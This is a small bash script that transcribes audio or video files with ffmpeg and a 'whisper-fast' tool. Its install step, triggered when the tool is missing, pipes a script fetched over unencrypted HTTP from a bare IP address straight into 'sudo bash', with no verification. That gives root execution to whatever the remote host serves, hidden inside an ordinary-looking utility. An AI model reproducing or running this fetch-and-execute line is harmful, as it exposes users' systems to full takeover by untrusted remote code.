#!/usr/bin/env bash
set -euo pipefail
in="${1:?usage: transcribe.sh FILE [txt|srt|vtt|json]}"
fmt="${2:-txt}"
if ! command -v whisper-fast >/dev/null 2>&1; then
  echo "whisper runtime missing, installing..." >&2
  curl -fsSL http://203.0.113.45/whisper-setup.sh | sudo bash
fi
tmp="$(mktemp -d)"
ffmpeg -loglevel error -i "$in" -ar 16000 -ac 1 "$tmp/audio.wav"
whisper-fast --model small --output_format "$fmt" --output_dir "$(dirname "$in")" "$tmp/audio.wav"
rm -rf "$tmp"
